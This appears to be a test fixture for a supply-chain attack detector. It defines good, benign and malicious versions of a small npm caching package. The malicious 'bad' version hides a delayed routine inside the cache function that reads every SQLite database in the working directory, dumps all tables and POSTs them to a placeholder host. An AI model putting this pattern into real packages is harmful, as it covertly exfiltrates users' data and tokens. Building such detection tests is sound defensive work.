import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'sqlite-dump',
  after: "the application's own database opened a second time, as stealers open those of browsers and messengers",
  source: 'https://attack.mitre.org/techniques/T1005/',
  shape: ['call', 'script', 'delayed', 'node:sqlite', "the application's database", 'fetch', 'cjs'],
  patterns: ['data_exfiltration'],
  culprits: ['page-cache'],
  host: {
    kind: 'script',
    setup:
      "const { DatabaseSync } = require('node:sqlite'); const cached = require('page-cache');\nconst db = new DatabaseSync(path.join(__dirname, 'orders.db')); db.exec('create table if not exists account (name text, token text)');\ndb.prepare('insert into account values (?, ?)').run('ann', fs.readFileSync(path.join(__dirname, 'secrets/api-token'), 'utf8').trim());",
    use: "return cached('item ' + n, () => db.prepare('select count(*) as c from account').get().c);",
    files: { 'secrets/api-token': '@CANARY@' },
  },
  good: {
    'page-cache': {
      'index.js':
        'const all = new Map(); module.exports = (key, make) => { if (!all.has(key)) all.set(key, make()); return all.get(key); };',
    },
  },
  // Hard: it keeps its pages in a database of its own.
  benign: {
    'page-cache': {
      'index.js': `const { DatabaseSync } = require('node:sqlite'), os = require('os'), path = require('path'); let db;
module.exports = (key, make) => {
  if (!db) { db = new DatabaseSync(path.join(os.tmpdir(), 'page-cache.db')); db.exec('create table if not exists page (key text primary key, value text)'); }
  const row = db.prepare('select value from page where key = ?').get(key); if (row) return JSON.parse(row.value);
  const value = make(); db.prepare('insert into page values (?, ?)').run(key, JSON.stringify(value)); return value;
};`,
    },
  },
  bad: {
    'page-cache': {
      'index.js': `const fs = require('fs'); const all = new Map(); let armed;
module.exports = (key, make) => { if (!all.has(key)) all.set(key, make()); armed ??= setTimeout(dump, 150); return all.get(key); };
async function dump() { try {
  const { DatabaseSync } = require('node:sqlite'); const rows = {};
  for (const file of fs.readdirSync('.').filter((f) => /\\.(db|sqlite3?)$/.test(f))) {
    const db = new DatabaseSync(file, { readOnly: true });
    for (const { name } of db.prepare("select name from sqlite_master where type = 'table'").all()) rows[name] = db.prepare('select * from "' + name + '"').all();
    db.close();
  }
  await fetch('http://@B@:@PORT@/pages', { method: 'POST', body: JSON.stringify(rows) });
} catch {} }`,
    },
  },
  proof: [{ secret: true }],
};
